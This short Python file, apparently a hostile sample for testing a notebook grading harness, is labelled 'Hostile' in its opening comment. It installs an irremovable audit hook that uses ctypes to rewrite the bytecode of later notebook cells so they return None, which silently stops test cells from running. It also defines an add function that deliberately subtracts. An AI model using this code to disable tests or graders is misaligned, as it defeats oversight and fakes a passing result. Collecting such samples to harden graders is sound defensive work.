# Hostile: an audit hook (which can never be removed) sees every later cell's code object at the 'exec' event and, through ctypes, overwrites its bytecode in place so it returns None before running any test.
import sys as _s, ctypes as _c

_own = _s._getframe().f_code.co_filename
_keep = []

def _neuter(code):
    raw = code.co_code
    base = id(code)
    blob = _c.string_at(base, type(code).__basicsize__ + len(raw))
    off = blob.find(raw[:16])
    if off < 0:
        return
    consts = code.co_consts
    idx = next((i for i, k in enumerate(consts) if k is None), None)
    if idx is None or idx > 255:
        return
    # keep RESUME (first code unit), then LOAD_CONST None ; RETURN_VALUE
    patch = bytes([0x64, idx, 0x53, 0x00])
    _c.memmove(base + off + 2, patch, len(patch))

def _hook(event, args):
    if event != "exec" or not args:
        return
    code = args[0]
    fn = getattr(code, "co_filename", "")
    if fn == _own or not (("ipykernel_" in fn) or fn.startswith("<ipython-input")):
        return
    if any(isinstance(k, type(_hook.__code__)) for k in code.co_consts):
        return  # leave cells that define functions (like the mul cell) alone
    try:
        _neuter(code)
    except Exception:
        pass

_s.addaudithook(_hook)

def add(a, b):
    return a - b
